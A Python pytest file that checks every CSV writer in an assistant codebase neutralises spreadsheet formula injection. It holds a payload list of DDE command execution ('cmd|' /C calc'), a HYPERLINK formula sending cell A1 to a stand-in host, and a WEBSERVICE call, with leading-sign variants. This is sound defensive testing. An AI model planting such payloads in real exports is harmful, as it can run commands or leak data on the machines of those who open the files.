"""No table that we write runs anything in a spreadsheet. Whoever adds a writer of tables adds it to `WRITERS`."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, strategies as st

from assistant.accounts.exporting import export_csv
from assistant.accounts.mapping import load_mapping
from assistant.accounts.row_errors import RowError, error_file
from assistant.artifacts.parts import FactBook, table
from assistant.documents.bibliography import to_csv
from assistant.documents.cells import table_csv
from assistant.domain import Account
from eval.rating.spreadsheet import csv_text
from guardrails import (
    Claim,
    ClaimSet,
    Draft,
    Section,
    bare_cell,
    export_claims,
    load_claims,
    safe_cell,
)
from ingest import Article, Author, Classification, Design, Integrity, Species, StoredArticle
from tests.assistant.attacks.unjudged import unjudged

NOW = datetime(2026, 11, 17, 18, 0, tzinfo=UTC)
ROOT = Path(__file__).parents[3]
PACKAGES = ("assistant", "ingest", "guardrails", "prompts", "eval")
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = [
    f"{sign}{rest}"
    for sign in (*LIVE, " =", "\t=", "\n=", "\u00a0=", "'=")
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://x.example/?d="&A1;"open")',
        'WEBSERVICE("//x.example")',
    )
]


def accounts(text: str) -> str:
    return export_csv([Account("A-1", text, "US-OH", 1, "awareness", decision_process=text)], load_mapping("accounts"))


def reference_list(text: str) -> str:
    article = Article("1", "1", text, authors=(Author(text),), journal=text, volume=text, doi=text)
    kind = Classification(Species.HUMAN, Design.RCT)
    return to_csv([StoredArticle(article, "0" * 64, Integrity.OK, kind, NOW, NOW)])


def claims(text: str) -> str:
    """A claim with the text; as long as a claim has to be."""
    claim = Claim("C-1", 1, text if len(text) >= 20 else f"{text} in adults on chemotherapy", "efficacy", "draft")
    return export_claims(ClaimSet((claim,), {}), "csv")


def document(text: str) -> str:
    facts = FactBook("t", "Facts")
    draft = Draft("D-1", "x", "Title", (Section("s", "Table", (table((text, "Item"), [(text, text)]),)),))
    return table_csv(unjudged(draft, facts, NOW))


def row_errors(text: str) -> str:
    with TemporaryDirectory() as folder:
        path = Path(folder) / "errors.csv"
        with error_file(path, path.with_suffix(".in")) as tell:
            tell(RowError(1, text, text))
        return path.read_bytes().decode()


def ratings(text: str) -> str:
    return csv_text([{"item": text, "comment": text}])


WRITERS: dict[str, Callable[[str], str]] = {
    "assistant/accounts/exporting.py": accounts,
    "assistant/accounts/row_errors.py": row_errors,
    "assistant/documents/bibliography.py": reference_list,
    "assistant/documents/cells.py": document,
    "guardrails/claims/export.py": claims,
    "eval/rating/spreadsheet.py": ratings,
}


def live_cells(written: str) -> list[str]:
    """Cells that a program would run, however it parts the file into cells."""
    rows = csv.reader(io.StringIO(written, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(LIVE) or cell.lstrip().startswith(LIVE)]


def test_every_writer_of_tables_is_known() -> None:
    found = set()
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            assert not any(name in source for name in ("openpyxl", "xlsxwriter", "pandas", "odfpy")), path
            if "csv" in source and any(_writes_csv(node) for node in ast.walk(ast.parse(source))):
                found.add(path.relative_to(ROOT).as_posix())
    assert found == set(WRITERS)


def _writes_csv(node: ast.AST) -> bool:
    if isinstance(node, ast.ImportFrom) and node.module == "csv":
        return True  # a writer imported by name would not be seen below
    return (
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    )


@pytest.mark.parametrize("name", WRITERS)
def test_nothing_that_is_written_runs(name: str) -> None:
    for payload in PAYLOADS:
        written = WRITERS[name](payload)
        assert payload.strip(" \t\r\n\0\u00a0'")[-4:] in written.replace('""', '"')  # the words are there
        assert live_cells(written) == [], payload


@given(st.text(max_size=20) | st.sampled_from(PAYLOADS))
def test_a_cell_reads_back_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert bare_cell(cell) == text
    assert not cell.lstrip().startswith(LIVE[:4])


def test_an_exported_claim_and_account_come_back_as_they_went(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    path.write_text(claims("-5 points on the scale were seen."), encoding="utf-8")
    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    assert row["text"] == "'-5 points on the scale were seen."
    assert load_claims(path).claims[0].text == "-5 points on the scale were seen."
